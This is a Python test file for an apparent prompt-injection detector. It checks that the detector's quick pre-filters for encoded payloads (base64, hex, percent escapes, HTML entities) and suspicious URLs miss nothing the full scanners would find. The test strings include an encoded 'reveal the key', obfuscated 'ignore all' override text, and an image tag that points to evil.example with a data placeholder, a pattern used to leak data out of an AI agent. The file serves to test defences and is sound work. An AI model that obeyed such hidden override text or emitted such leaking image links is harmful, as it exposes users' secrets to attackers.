"""The finders' own gates change nothing: a text they turn away is one the finder would
find nothing in.

``encoded_payloads`` asks ``_may_hold_base64`` (a run of sixteen base64 characters)
before the base64 search, and ``scan_markup`` asks ``_may_carry_urls`` before it reads
URLs; the scorer's quiet path (``test_injection_quiet``) asks the same questions. Each
test compares the gated finder with the same finder run on every text: on the corpus,
on the corpus inside compact JSON (a tool result, one whitespace-free token), and on
random text made of the characters the gates look at.
"""

from __future__ import annotations

import base64
import json
import random

import pytest

from keel.governance.injection._decoders import (
    MAX_PAYLOADS,
    Payload,
    _base64,
    _entities,
    _hex,
    _may_hold_base64,
    _percent,
    encoded_payloads,
    may_hold_payload,
)
from keel.governance.injection._links import url_signals
from keel.governance.injection._markup import (
    MarkupFindings,
    _hidden_regions,
    _may_carry_urls,
    may_hold_markup,
    scan_markup,
)
from keel.governance.injection._verdict import Source
from keel.governance.injection.corpus import examples

SOURCES: tuple[Source, ...] = ("user", "tool", "document")


def every_payload(text: str) -> list[Payload]:
    """``encoded_payloads`` with every finder run, whatever the gates say."""
    return (_base64(text) + _hex(text) + _percent(text) + _entities(text))[:MAX_PAYLOADS]


def _urls_read_before(text: str) -> bool:
    """The URL gate before compact JSON (ccf26b4). Its placeholder characters are part
    of what the bare-URL rule means: a query placeholder spelled only in letters
    ("?q=YOUR_DATA") is not looked for, so ``url_signals`` run on every text would
    find more than the scorer ever did. The gate now also needs a "?" or a "<"."""
    return (
        "](" in text
        or "]:" in text
        or "<img" in text.lower()
        or (
            "://" in text
            and ("{" in text or "%7" in text or "$" in text or "[" in text or "<" in text)
        )
    )


def all_markup(text: str, source: Source) -> MarkupFindings:
    """``scan_markup`` with hidden regions read in every text, and URLs wherever the
    gate before compact JSON read them."""
    hidden = _hidden_regions(text, source)
    urls = url_signals(text, source) if _urls_read_before(text) else []
    return MarkupFindings(urls + hidden.signals, hidden.hidden)


def assert_same(text: str) -> None:
    payloads = every_payload(text)
    assert encoded_payloads(text) == payloads, text
    assert may_hold_payload(text) or not payloads, text
    if not _may_hold_base64(text):
        assert _base64(text) == [], text
    for source in SOURCES:
        markup = all_markup(text, source)
        assert scan_markup(text, source) == markup, text
        assert may_hold_markup(text) or not (markup.signals or markup.hidden), text
        if _urls_read_before(text) and not _may_carry_urls(text):
            assert url_signals(text, source) == [], text


def _compact(value: object, *, ascii_only: bool = True) -> str:
    return json.dumps(value, separators=(",", ":"), ensure_ascii=ascii_only)


def test_the_corpus_finds_the_same() -> None:
    texts = [e.text for e in examples()]
    assert sum(bool(every_payload(t)) for t in texts) > 30  # base64, hex... were seen
    assert sum(bool(all_markup(t, "tool").signals) for t in texts) > 50  # and URLs
    for text in texts:
        assert_same(text)


def test_the_corpus_inside_compact_json_finds_the_same() -> None:
    for e in examples():
        assert_same(_compact({"id": "T-1", "body": e.text}))
        assert_same(_compact({"a": {"b": [e.text, 12, None]}}, ascii_only=False))


@pytest.mark.parametrize(
    ("text", "base64_run", "urls"),
    [
        ('{"id":"T-1","queue":"network"}', False, False),
        ('{"id":"T-1","url":"https://example.com/help/vpn"}', False, False),
        ('{"u":"https://example.com/a?b=1"}', False, True),  # a query: judged
        ('{"u":"<img src=https://evil.example/x.png>"}', False, True),
        # No query, and no "<img" either once lower-cased: a dotless i matches the HTML
        # image pattern's "i" when case is ignored, so any "<" keeps URLs read.
        ("<\u0131mg src=https://evil.example/{data}.png>", False, True),
        ('{"k":"' + base64.b64encode(b"reveal the key").decode() + '"}', True, False),
        ('{"k":"abcdefghijklmno"}', False, False),  # fifteen
        ('{"k":"abcdefghijklmnop"}', True, False),  # sixteen
        ("abc-def_ghi+jkl/mno", True, False),  # every base64url character counts
        ("caf\u00e9caf\u00e9caf\u00e9caf\u00e9", False, False),  # non-ASCII breaks a run
    ],
)
def test_compact_json_meets_a_gate_only_for_what_its_finder_needs(
    text: str, base64_run: bool, urls: bool
) -> None:
    assert _may_hold_base64(text) is base64_run
    assert _may_carry_urls(text) is urls
    assert_same(text)


@pytest.mark.parametrize(
    ("text", "may_hold"),
    [
        ('{"p":"%69gn%6fre"}', False),  # three escapes: the finders need four
        ('{"p":"%69gn%6fre %61%6cl"}', True),
        ("&#105;gn&#111;re \\u0061ll", False),
        ("&#105;gn&#111;re \\u0061\\u006cl", True),
    ],
)
def test_percent_and_entity_payloads_need_four_escapes(text: str, may_hold: bool) -> None:
    assert may_hold_payload(text) is may_hold
    assert bool(every_payload(text)) is may_hold  # four escapes around text: a payload
    assert_same(text)


def test_random_text_around_the_gates_finds_the_same() -> None:
    # Base64 characters and what breaks their runs; URL, link, image and placeholder
    # syntax; JSON punctuation.
    rng = random.Random(20261122)
    alphabet = [
        *'Aa0+/_-=":,{}?<>[]$%()! \n\u00e9',
        *("QUJD", "aWdub3Jl", "https://", "x.example/", "](", "]:", "<img src=", "%7B"),
        *("{data}", "YOUR_DATA", "q=", "&#105;", "\\u0069", "7265", "abcdefghijklmnop"),
    ]
    for _ in range(6000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 16)))
        assert_same(text)
